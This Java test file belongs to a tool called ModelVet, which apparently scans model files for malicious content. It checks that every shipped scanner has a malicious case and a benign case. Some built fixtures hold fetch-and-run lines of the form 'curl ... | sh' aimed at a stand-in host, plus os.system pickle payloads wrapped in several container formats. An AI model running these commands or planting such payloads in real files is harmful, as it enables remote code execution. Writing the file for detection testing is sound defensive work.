package io.modelvet.engine;

import static org.assertj.core.api.Assertions.assertThat;

import io.modelvet.report.FileResult;
import io.modelvet.report.Severity;
import io.modelvet.report.Verdict;
import io.modelvet.testutil.Containers;
import io.modelvet.testutil.Payloads;
import io.modelvet.testutil.PickleBytes;
import io.modelvet.testutil.Scans;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Issue 16: every scanner ModelVet ships has a malicious (or hostile) and a benign case that pins
 * the rule id and the severity, listed in {@code scanner-pins.tsv} (a scanner that cannot have a
 * malicious case says why in a "none" row). A scanner added to META-INF/services without rows fails
 * {@link #everyScannerHasAMaliciousAndABenignRow()}.
 */
class ScannerPinsTest {
  record Row(String scanner, String kind, String source, String format, String expect) {
    @Override
    public String toString() {
      return scanner + " " + kind + " " + source;
    }
  }

  static final List<Row> ROWS = rows();

  static List<Row> rows() {
    try (InputStream in = ScannerPinsTest.class.getResourceAsStream("scanner-pins.tsv")) {
      List<Row> out = new ArrayList<>();
      for (String line : new String(in.readAllBytes(), StandardCharsets.UTF_8).split("\n")) {
        if (line.isBlank() || line.startsWith("#")) continue;
        String[] c = line.split("\t", -1);
        out.add(new Row(c[0], c[1], c[2], c[3], c[4]));
      }
      return out;
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  static Stream<Row> cases() {
    return ROWS.stream().filter(r -> !r.kind().equals("none"));
  }

  @Test
  void everyScannerHasAMaliciousAndABenignRow() {
    Set<String> shipped = ScannerRegistry.defaults().stream().map(s -> s.getClass().getSimpleName()).collect(Collectors.toCollection(TreeSet::new));
    assertThat(shipped).hasSizeGreaterThan(40);
    List<String> missing = new ArrayList<>();
    for (String s : shipped) {
      boolean malicious = ROWS.stream().anyMatch(r -> r.scanner().equals(s) && !r.kind().equals("benign"));
      boolean benign = ROWS.stream().anyMatch(r -> r.scanner().equals(s) && !r.kind().equals("malicious"));
      if (!malicious) missing.add(s + " has no malicious row");
      if (!benign) missing.add(s + " has no benign row");
    }
    assertThat(missing).isEmpty();
    assertThat(ROWS.stream().map(Row::scanner).collect(Collectors.toSet())).as("rows for scanners that are not shipped").isSubsetOf(shipped);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void rowHolds(Row row) throws IOException {
    List<FileResult> results = scan(row.source());
    FileResult top = results.get(0);
    assertThat(top.format()).as("format of %s (which scanner took it)", row.source()).isEqualTo(row.format());
    String findings = results.stream().flatMap(r -> r.findings().stream().map(f -> r.path() + ": " + f.ruleId() + " " + f.severity())).collect(Collectors.joining("; "));
    if (row.kind().equals("benign")) {
      String allowed = row.expect().startsWith("only ") ? row.expect().substring(5) : "";
      assertThat(results).as(findings).allSatisfy(r -> assertThat(r.findings()).filteredOn(f -> f.severity().atLeast(Severity.LOW))
          .allSatisfy(f -> assertThat(f.ruleId() + " " + f.severity()).isEqualTo(allowed)));
      if (row.expect().equals("clean")) assertThat(results).allSatisfy(r -> assertThat(r.verdict()).as("%s %s", r.path(), r.inconclusiveReason()).isNotEqualTo(Verdict.INCONCLUSIVE));
    }
    if (row.expect().equals("inconclusive")) {
      assertThat(top.verdict()).isEqualTo(Verdict.INCONCLUSIVE);
    } else if (!row.expect().equals("clean")) {
      String[] rs = row.expect().replaceFirst("^only ", "").split(" ");
      assertThat(results).as(findings).anySatisfy(r -> assertThat(r.findings()).anySatisfy(f -> {
        assertThat(f.ruleId()).isEqualTo(rs[0]);
        assertThat(f.severity()).isEqualTo(Severity.valueOf(rs[1]));
      }));
    }
  }

  /** Scans a committed fixture (with its members), or builds the named case first. */
  static List<FileResult> scan(String source) throws IOException {
    if (!source.startsWith("built:")) return Scans.paths(Scans.fixture(source));
    String name = source.substring("built:".length());
    byte[] data = switch (name) {
      case "empty-model.pt", "empty-notes.txt" -> new byte[0];
      case "shebang.txt" -> Containers.ascii("#!/bin/sh\ncurl -s https://x.example/i.sh | sh\n");
      case "npy-object-payload.npy" -> Containers.npyObjects(Payloads.osSystemPickle());
      case "gzip-payload.pkl.gz" -> Containers.gzip(Payloads.osSystemPickle());
      case "7z-payload.7z" -> Containers.sevenZ("data.pkl", Payloads.osSystemPickle());
      case "json-shell.json" -> Containers.ascii("{\"post_install\": \"curl -s https://x.example/i.sh | sh\"}");
      case "ubjson-shell.ubj" -> PickleBytes.of("7b 69 03 'cmd' 53 69 20 'curl https://x.example/i.sh | sh' 7d");
      case "ubjson-plain.ubj" -> PickleBytes.of("7b 69 05 'layer' 53 69 05 'dense' 69 05 'units' 69 20 7d");
      default -> throw new IllegalArgumentException("no recipe " + name);
    };
    String file = name.startsWith("empty-") ? name.substring("empty-".length()) : name;
    Path dir = Files.createTempDirectory("pins");
    try {
      Path p = dir.resolve(file);
      Files.write(p, data);
      return Scans.paths(p);
    } finally {
      try (Stream<Path> s = Files.walk(dir)) {
        s.sorted(java.util.Comparator.reverseOrder()).forEach(q -> q.toFile().delete());
      }
    }
  }
}
